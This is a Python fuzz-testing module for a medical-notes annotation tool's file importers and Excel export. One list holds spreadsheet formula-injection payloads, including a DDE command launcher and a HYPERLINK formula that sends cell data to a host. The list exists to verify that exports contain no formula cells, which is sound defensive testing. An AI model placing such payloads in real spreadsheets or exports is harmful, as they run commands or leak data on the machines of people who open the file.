"""A seeded mutator over small valid files of every import format, and the checks every import must pass.

Shared by the fuzz tests (``tests/test_fuzz_import.py``, a fixed count) and the longer benchmark run
(``scripts/bench_fuzz.py``). No Qt, no model: imports run with ``tagger=None``.
"""

from __future__ import annotations

import io
import json
import random
import re
import zipfile
from collections import Counter
from pathlib import Path

from engine.importing import import_files
from engine.storage import Repository
from engine.text import looks_like_notes

NOTES = ["রোগী: করিম\nবয়স: ৪৫ বছর", "তিন দিন ধরে জ্বর ও মাথা ব্যথা", "নাপা ৫০০ মিগ্রা দিনে ৩ বার খাবেন",
         "Patient has fever, cough; Napa 500 mg"]
FORMATS = ("txt", "csv", "xlsx", "healthner", "labelstudio", "doccano", "conll", "prodigy", "conll_spaces", "brat")
SUFFIX = {"txt": ".txt", "csv": ".csv", "xlsx": ".xlsx", "healthner": ".json", "labelstudio": ".json",
          "doccano": ".jsonl", "conll": ".conll", "prodigy": ".jsonl", "conll_spaces": ".txt", "brat": ".ann"}
# the text of the BRAT pair: check_import writes it beside each mutant .ann (only the .ann is mutated)
BRAT_TEXT = "রোগীর জ্বর ও মাথা ব্যথা, নাপা খাবেন"
BRAT_ANN = ("T1\tSymptom 6 10\tজ্বর\nT2\tSymptom 13 23\tমাথা ব্যথা\nT3\tMedicine 25 29\tনাপা\n"
            "R1\tTreats Arg1:T3 Arg2:T1\nA1\tAssertion T2 absent\n#1\tAnnotatorNotes T1\tসকালে\n")
UNEXPECTED = "Please report this file's problem"  # what import_files says when a reader failed in a way it didn't plan


def _healthner() -> list[dict]:
    return [{"text": "রোগীর জ্বর ও মাথা ব্যথা", "labels": ["O", "B-Symptom", "O", "B-Symptom", "I-Symptom"]},
            {"text": "নাপা ৫০০ মিগ্রা খাবেন", "labels": ["B-Medicine", "B-Dosage", "I-Dosage", "O"]}]


def _doccano() -> list[dict]:
    return [{"text": "রোগীর জ্বর ও মাথা ব্যথা", "label": [[6, 10, "Symptom"], [13, 23, "Symptom"]]},
            {"text": "নাপা ৫০০ মিগ্রা খাবেন", "label": [[0, 4, "Medicine"]]}]


def _label_studio() -> list[dict]:
    tasks = []
    for item in _doccano():
        results = [{"type": "labels", "value": {"start": s, "end": e, "text": item["text"][s:e], "labels": [t]}}
                   for s, e, t in item["label"]]
        tasks.append({"data": {"text": item["text"]}, "annotations": [{"result": results}]})
    return tasks


def _prodigy() -> list[dict]:
    rows = [{"text": d["text"], "spans": [{"start": s, "end": e, "label": t} for s, e, t in d["label"]],
             "answer": "accept", "meta": {"ward": "3"}} for d in _doccano()]
    return rows + [{"text": "বাদ", "spans": [], "answer": "reject"}]


def _xlsx(rows: list[list[str]]) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    for row in rows:
        wb.active.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def seed_file(fmt: str) -> bytes:
    """A small valid file of ``fmt``."""
    if fmt == "txt":
        return "\n".join(NOTES).encode()
    if fmt == "csv":
        return ("id,note\n" + "".join(f'{i},"{n}"\n' for i, n in enumerate(NOTES))).encode()
    if fmt == "xlsx":
        return _xlsx([["id", "note"]] + [[str(i), n] for i, n in enumerate(NOTES)])
    if fmt == "healthner":
        return json.dumps(_healthner(), ensure_ascii=False, indent=1).encode()
    if fmt == "labelstudio":
        return json.dumps(_label_studio(), ensure_ascii=False, indent=1).encode()
    if fmt == "doccano":
        return "".join(json.dumps(d, ensure_ascii=False) + "\n" for d in _doccano()).encode()
    if fmt == "conll":
        return "\n\n".join("\n".join(f"{t}\t{g}" for t, g in zip(d["text"].split(), d["labels"]))
                           for d in _healthner()).encode() + b"\n"
    if fmt == "prodigy":
        return "".join(json.dumps(d, ensure_ascii=False) + "\n" for d in _prodigy()).encode()
    if fmt == "brat":
        return BRAT_ANN.encode()
    if fmt == "conll_spaces":  # CoNLL-2003 columns in a .txt, found by content
        return b"-DOCSTART- -X- -X- O\n\n" + "\n\n".join(
            "\n".join(f"{t} NN _ {g}" for t, g in zip(d["text"].split(), d["labels"])) for d in _healthner()
        ).encode() + b"\n"
    raise ValueError(f"unknown format {fmt!r}")


# -- mutations ------------------------------------------------------------------------------------------

WEIRD = [True, False, None, -1, 0, 1.5, 10**12, "", "O", "B-O", "I-O", "B-", "x\x00y", "Medi\ncine", "\t",
         "\x1b[31m", "\ud83d", "\udcff", " Medicine ", {}, [], [[]], [0, 4], "জ্বর", "B-Medicine\x00"]


def _flip(data: bytes, rng: random.Random) -> bytes:
    raw = bytearray(data)
    for _ in range(rng.randint(1, 12)):
        if raw:
            raw[rng.randrange(len(raw))] ^= 1 << rng.randrange(8) if rng.random() < 0.7 else rng.randrange(256)
    return bytes(raw)


def _truncate(data: bytes, rng: random.Random) -> bytes:
    return data[: rng.randrange(max(1, len(data)))]


def _huge_line(data: bytes, rng: random.Random) -> bytes:
    size = rng.choice([140_000, 300_000, 1_000_001, 1_300_000])
    filler = rng.choice([b"x", "জ্ব".encode(), b"a b ", b"\\", b"\""]) * (size // 3 + 1)
    pos = rng.randrange(len(data) + 1)
    return data[:pos] + filler[:size] + data[pos:]


def _deep(data: bytes, rng: random.Random) -> bytes:
    depth = rng.choice([65, 500, 1_000, 5_000, 100_000])
    opener, closer = rng.choice([(b"[", b"]"), (b'{"a":', b"}")])
    inner = opener * depth + b"1" + closer * depth
    pos = rng.randrange(len(data) + 1)
    return data[:pos] + inner + data[pos:] if rng.random() < 0.5 else opener * depth + data + closer * depth


def _line_ends(data: bytes, rng: random.Random) -> bytes:
    unix = data.replace(b"\r\n", b"\n")
    return unix.replace(b"\n", rng.choice([b"\r", b"\r\n", b"\n\r", b"\r\r\n"]))


def _json_value(data: bytes, rng: random.Random, *, offsets: bool) -> bytes:
    """Parse the JSON (or each JSON line), replace a random value (offsets only, if asked) and write it back."""
    try:
        text = data.decode()
        lines = text.split("\n") if text.lstrip().startswith("{") else [text]
        k = rng.randrange(len(lines))
        doc = json.loads(lines[k])
    except (ValueError, RecursionError):  # an earlier mutation broke it already
        return _flip(data, rng)
    slots = []

    def walk(node, key_path):
        if isinstance(node, dict):
            for key, value in node.items():
                slots.append((node, key, key_path + [key]))
                walk(value, key_path + [key])
        elif isinstance(node, list):
            for i, value in enumerate(node):
                slots.append((node, i, key_path + [i]))
                walk(value, key_path + [i])

    walk(doc, [])
    if offsets:
        picked = [s for s in slots if s[1] in ("start", "end") or (isinstance(s[1], int) and len(s[2]) >= 3
                                                                      and isinstance(s[0][s[1]], int))]
        slots = picked or slots
    if slots:
        node, key, _ = rng.choice(slots)
        if offsets and rng.random() < 0.6:
            old = node[key] if isinstance(node[key], int) else 0
            node[key] = old + rng.choice([-3, -1, 1, 2, 50, -100])
        else:
            node[key] = rng.choice(WEIRD)
    lines[k] = json.dumps(doc, ensure_ascii=rng.random() < 0.5)
    return "\n".join(lines).encode("utf-8", "surrogatepass")


def _brat_offsets(data: bytes, rng: random.Random) -> bytes:
    """Change one number of a BRAT .ann (an offset, or a T id's digits), or join/split fragments."""
    text = data.decode("utf-8", "replace")
    numbers = list(re.finditer(r"\d+", text))
    if not numbers or rng.random() < 0.2:
        return text.replace(" ", rng.choice([";", " 0;", "\t", "  "]), 1).encode()
    m = rng.choice(numbers)
    value = rng.choice([0, 1, int(m.group()) + rng.choice([-3, -1, 1, 2, 50]), 10**12, 36, 37])
    return (text[:m.start()] + str(max(value, 0)) + text[m.end():]).encode()


def _bad_label(data: bytes, rng: random.Random) -> bytes:
    text = data.decode("utf-8", "replace")
    names = re.findall(r"Symptom|Medicine|Dosage", text)
    if not names:
        return _flip(data, rng)
    bad = rng.choice(["O", "Sym\\u0000ptom", "Sym\\nptom", "Sym\\tptom", "\\u001b[31m", "\\ud83d", " X", ""])
    if not text.lstrip().startswith(("[", "{")):  # CoNLL: raw characters
        bad = bad.encode().decode("unicode_escape", "replace")
    return text.replace(rng.choice(names), bad, 1).encode("utf-8", "surrogatepass")


def _xlsx_part(data: bytes, rng: random.Random) -> bytes:
    """Damage one XML part inside the workbook (bad XML, truncation, huge text, wrong types) and re-zip it."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        parts = {i.filename: zf.read(i) for i in zf.infolist()}
    name = rng.choice(sorted(parts))
    body = parts[name]
    kind = rng.randrange(6)
    if kind == 0:
        body = _flip(body, rng)
    elif kind == 1:
        body = _truncate(body, rng)
    elif kind == 2:
        body = body.replace(b">", b"><", 1)
    elif kind == 3:
        body = re.sub(rb't="inlineStr"><is><t>[^<]*</t></is>', b't="s"><v>3</v>', body)
    elif kind == 4:
        body = re.sub(rb'r="(\d+)"', lambda m: b'r="' + str(rng.choice([0, 10**7, 10**12])).encode() + b'"', body,
                      count=1)
    else:
        body = body.replace(b"<t>", b"<t>" + b"a" * rng.choice([200_000, 2_000_000, 20_000_000]), 1)
    parts[name] = body
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for part, content in parts.items():
            zf.writestr(part, content)
    return out.getvalue()


FORMULAS = ["=1+1", '=HYPERLINK("http://example.org/?"&C2)', "+SUM(A1)", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0"]


def _formula_names(data: bytes, rng: random.Random) -> bytes:
    """An entity type and a metadata key (a JSON field, a CSV header) that a spreadsheet would run as a formula."""
    text = data.decode("utf-8", "replace")
    formula = rng.choice(FORMULAS)
    if text.lstrip().startswith(("{", "[")):  # JSON: a type, and a field that becomes metadata
        quoted = json.dumps(formula)[1:-1]
        text = re.sub(r"Symptom|Medicine|Dosage", lambda m: quoted if rng.random() < 0.5 else m.group(), text)
        text = re.sub(r'\{"text"', lambda m: '{' + json.dumps(formula) + ': "x", "text"', text, count=3)
        return text.encode()
    if text.startswith("id,"):  # CSV: a header cell
        return ('"' + formula.replace('"', '""') + '"' + text[2:]).encode()
    return re.sub(r"Symptom|Medicine|Dosage", lambda m: formula, text, count=2).encode()


def _wide_row(data: bytes, rng: random.Random) -> bytes:
    """A CSV row of about 20,000 cells (past Excel's 16,384 columns), with a header as wide."""
    width = rng.choice([16_385, 20_000, 40_000])
    lines = data.decode("utf-8", "replace").split("\n")
    lines[0] += "".join(f",c{i}" for i in range(width))
    if len(lines) > 1:
        lines[1] += ",x" * width
    return "\n".join(lines).encode()


def _nul_header(data: bytes, rng: random.Random) -> bytes:
    """A byte-order mark, then a NUL (or another control character) inside the header."""
    text = data.decode("utf-8", "replace")
    head, sep, rest = text.partition("\n")
    pos = rng.randrange(len(head) + 1)
    head = head[:pos] + rng.choice(["\x00", "\x00\x00", "\x01", "\x0b"]) + head[pos:]
    return "\ufeff".encode() + (head + sep + rest).encode()


def _empty_labels(data: bytes, rng: random.Random) -> bytes:
    """doccano lines whose label list is empty (an example nobody labelled yet)."""
    lines = []
    for line in data.decode("utf-8", "replace").split("\n"):
        try:
            item = json.loads(line)
        except ValueError:
            lines.append(line)
            continue
        if isinstance(item, dict) and rng.random() < 0.7:
            item[rng.choice(["label", "label", "entities"]) if "label" in item else "label"] = []
            item.pop("label", None) if rng.random() < 0.2 else None
        lines.append(json.dumps(item, ensure_ascii=False))
    return "\n".join(lines).encode()


def _long_line(data: bytes, rng: random.Random) -> bytes:
    """One note on one line of about 2 MB (under the 1,000,000-character limit), an entity every 8 characters."""
    unit = "কাশি ও, "  # 8 characters, 20 bytes
    text = unit * (rng.choice([1_990_000, 1_000_000]) // len(unit.encode()))
    if not data.lstrip().startswith(b"{"):
        return text.encode()
    spans = [[i, i + 4, "Symptom"] for i in range(0, len(text), 8)]
    return json.dumps({"text": text, "label": spans}, ensure_ascii=False).encode() + b"\n"


def _bom_garbage(data: bytes, rng: random.Random) -> bytes:
    """A UTF-16 (or UTF-8) byte-order mark, then bytes that are no text at all."""
    size = rng.choice([64, 4_096, 200_000])
    junk = bytes(rng.randrange(256) for _ in range(size))
    bom = rng.choice([b"\xff\xfe", b"\xfe\xff", b"\xff\xfe", b"\xef\xbb\xbf"])
    return bom + junk


def mutate(fmt: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
    """One mutant of ``data``: ``(what was done, bytes)``."""
    textual = [("flip", _flip), ("truncate", _truncate), ("huge line", _huge_line), ("deep nesting", _deep),
               ("line ends", _line_ends)]
    if fmt in ("healthner", "labelstudio", "doccano", "prodigy"):
        textual += [("wrong type", lambda d, r: _json_value(d, r, offsets=False)),
                    ("bad offsets", lambda d, r: _json_value(d, r, offsets=True)),
                    ("bad label", _bad_label)] * 2
    if fmt in ("conll", "conll_spaces"):
        textual += [("bad label", _bad_label)] * 2
    if fmt == "brat":
        textual += [("bad offsets", _brat_offsets)] * 3 + [("bad label", _bad_label)] * 2
    if fmt != "xlsx":
        textual += [("formula names", _formula_names), ("bom garbage", _bom_garbage)]
    if fmt in ("csv", "txt"):
        textual += [("wide row", _wide_row), ("nul header", _nul_header)]
    if fmt in ("doccano", "txt"):
        textual += [("long single line", _long_line)]
    if fmt == "doccano":
        textual += [("empty labels", _empty_labels)] * 2
    if fmt == "xlsx":
        textual = [("flip", _flip), ("truncate", _truncate)] + [("bad xml part", _xlsx_part)] * 6
    name, fn = rng.choice(textual)
    out = fn(data, rng)
    if rng.random() < 0.15 and fmt != "xlsx":  # now and then two at once
        second, fn = rng.choice(textual)
        name, out = f"{name} + {second}", fn(out, rng)
    return name, out


def mutants(count_per_format: int, seed: int, formats: tuple[str, ...] = FORMATS):
    """Yield ``(format, mutation, suffix, bytes)``: ``count_per_format`` of each, reproducible from ``seed``."""
    rng = random.Random(seed)
    seeds = {fmt: seed_file(fmt) for fmt in formats}
    for _ in range(count_per_format):
        for fmt in formats:
            name, data = mutate(fmt, seeds[fmt], rng)
            yield fmt, name, SUFFIX[fmt], data


# -- the checks -------------------------------------------------------------------------------------------

class Wrong(AssertionError):
    """An import broke the batch rule or stored a span it should not have."""


def _stated_spans(fmt: str, data: bytes, index: int) -> Counter | None:
    """What the file itself says document ``index`` holds: a Counter of (type, words), or None if not stated."""
    text = data.decode("utf-8-sig")
    if fmt == "healthner":
        item = json.loads(text)[index]
        found, current = Counter(), None
        for token, tag in zip(item["text"].split(), item["labels"]):
            if tag.startswith("I-") and current and current[0] == tag[2:]:
                current[1].append(token)
                continue
            if current:
                found[(current[0], " ".join(current[1]))] += 1
            current = (tag[2:], [token]) if tag != "O" else None
        if current:
            found[(current[0], " ".join(current[1]))] += 1
        return found
    if fmt == "doccano":
        item = json.loads([line for line in text.split("\n") if line.strip()][index])
        spans = item.get("label", item.get("labels", item.get("entities", [])))
        return Counter((t, " ".join(item["text"][s:e].split())) for s, e, t in
                       ([x["start_offset"], x["end_offset"], x["label"]] if isinstance(x, dict) else x[:3]
                        for x in spans))
    if fmt == "prodigy":
        rows = [json.loads(line) for line in text.split("\n") if line.strip()]
        item = [r for r in rows if r.get("answer") not in ("reject", "ignore")][index]
        return Counter((x["label"], " ".join(item["text"][x["start"]:x["end"]].split())) for x in item.get("spans") or [])
    if fmt == "brat":  # the first fragment of each T line (the reader's rule), in the text beside it
        found = Counter()
        for line in text.split("\n"):
            parts = line.rstrip("\r").split("\t")
            if line.startswith("T") and len(parts) >= 2:
                label, _, offsets = parts[1].partition(" ")
                start, end = (int(x) for x in offsets.split(";")[0].split())
                found[(label, " ".join(BRAT_TEXT[start:end].split()))] += 1
        return found
    if fmt == "labelstudio":
        task = json.loads(text)[index]
        annotations = [a for a in task.get("annotations") or [] if not a.get("was_cancelled")]
        results = annotations[-1].get("result") or [] if annotations else []
        regions = [r["value"] for r in results if isinstance(r, dict) and r.get("type") in (None, "labels")
                   and isinstance(r.get("value"), dict) and "start" in r["value"]]
        body = task["data"]["text"]
        return Counter((v["labels"][0], " ".join((v["text"] if isinstance(v.get("text"), str)
                                                 else body[v["start"]:v["end"]]).split())) for v in regions)
    return None


def check_import(path: Path, fmt: str, data: bytes, good: list[Path], repo: Repository) -> str:
    """Import ``[good[0], path, good[1]]``, store it in ``repo`` and check everything; returns "ok" or "error".

    Raises :class:`Wrong` for a broken rule; any other exception escaping is a crash.
    """
    companion = path.with_suffix(".txt") if fmt == "brat" else None
    if companion is not None:
        companion.write_text(BRAT_TEXT, encoding="utf-8")
    try:
        batch = import_files([good[0], path, good[1]], None)
    finally:
        if companion is not None:
            companion.unlink()
    sources = [Path(d.source).name for d in batch.documents]
    if not sources or sources[0] != good[0].name or sources[-1] != good[1].name:
        raise Wrong(f"the good files' documents are missing: {sources} {batch.errors}")
    mine = [d for d in batch.documents if Path(d.source).name == path.name]
    if batch.errors:
        if len(batch.errors) != 1 or path.name not in batch.errors[0] or mine:
            raise Wrong(f"expected one error naming {path.name} and none of its documents: {batch.errors}")
        if UNEXPECTED in batch.errors[0]:
            raise Wrong(f"a reader failed unexpectedly: {batch.errors[0]}")
    elif not mine:
        raise Wrong("no documents and no error: dropped silently")
    if mine and data[:2] in (b"\xff\xfe", b"\xfe\xff") and not looks_like_notes(
            data.decode("utf-16", "replace"), expected_share=0.5):
        raise Wrong(f"{len(mine)} document(s) imported from bytes that are no text behind a byte-order mark")
    if fmt == "doccano":
        _check_unlabelled(mine, data)
    _check_excel_export(mine, path)
    for origin in ("model", "human"):
        items = [(d.title, d.text, d.source, d.entities) for d in batch.documents if d.origin == origin]
        if items:
            ids = repo.add_documents(items, origin=origin)
            partial = [bool(d.notes) for d in batch.documents if d.origin == origin]
            for doc_id, (title, *_rest), noted in zip(ids, items, partial):
                _check_stored(repo, doc_id, title, fmt, data, path, partial=noted)
    return "error" if batch.errors else "ok"


def _check_unlabelled(mine: list, data: bytes) -> None:
    """A doccano line with an empty label list (and no sign that a person checked it) is never a reviewed note."""
    lines = data.decode("utf-8-sig", "replace").split("\n")  # the reader numbers lines so, blank ones too
    for d in mine:
        if d.reviewed and not d.entities and d.line is not None and d.line <= len(lines):
            try:
                item = json.loads(lines[d.line - 1])
            except ValueError:
                continue
            if isinstance(item, dict) and item.get("reviewed") is not True and not item.get("annotation_approver"):
                raise Wrong(f"{d.title}: a line with an empty label list was stored as reviewed")


def _check_excel_export(mine: list, path: Path) -> None:
    """What was imported exports to Excel (no document blocks it) with no formula cell anywhere. Notes over
    200,000 characters are left to ``scripts/bench_interop_scaling.py``: Excel writing 100,000 entity rows takes
    a minute of a shared CPU, and what they could break (names, wide rows) the short mutants cover."""
    from engine.exporting import export_documents
    from engine.spans import Document

    mine = [d for d in mine if len(d.text) <= 200_000]
    if not mine:
        return
    out = path.with_name(path.name + ".export.xlsx")
    try:
        summary = export_documents([Document(d.text, d.entities, name=d.title, metadata=d.metadata,
                                             status="annotated" if d.reviewed else "suggested") for d in mine], out)
        if summary.documents != len(mine):
            raise Wrong(f"the Excel export wrote {summary.documents} of {len(mine)} documents")
        with zipfile.ZipFile(out) as zf:
            formulas = [n for n in zf.namelist() if n.startswith("xl/worksheets/") and re.search(rb"<f[ >]", zf.read(n))]
        if formulas:
            raise Wrong(f"the Excel export has formula cells in {formulas}")
    finally:
        out.unlink(missing_ok=True)


def _check_stored(repo: Repository, doc_id: int, title: str, fmt: str, data: bytes, path: Path, *,
                  partial: bool = False) -> None:
    """``partial``: the import reported entities it left out (overlaps): what is stored is then a part of what
    the file states, never anything else."""
    text = repo.document(doc_id).text
    stored = repo.entities(doc_id)
    for e in stored:
        span = text[e.start:e.end]
        if not (0 <= e.start < e.end <= len(text)) or not span or span != span.strip():
            raise Wrong(f"{title}: stored span [{e.start}, {e.end}) {span!r} is not trimmed text")
    match = re.search(r" #(\d+)$", title)
    if fmt == "brat":  # one document a pair, titled by the file stem
        index = 0 if title == path.stem else None
    else:
        index = int(match.group(1)) - 1 if match is not None and title.startswith(path.name) else None
    if index is None:
        return
    stated = _stated_spans(fmt, data, index)
    found = Counter((e.label, " ".join(text[e.start:e.end].split())) for e in stored)
    if stated is not None and partial and not found - stated and found != stated:
        return
    if stated is not None and found != stated:
        raise Wrong(f"{title}: stored {sorted(found)} but the file states {sorted(stated)}")


def good_pair(folder: Path) -> list[Path]:
    first = folder / "good-a.txt"
    first.write_text(NOTES[1], encoding="utf-8")
    last = folder / "good-z.jsonl"
    last.write_bytes(seed_file("doccano"))
    return [first, last]
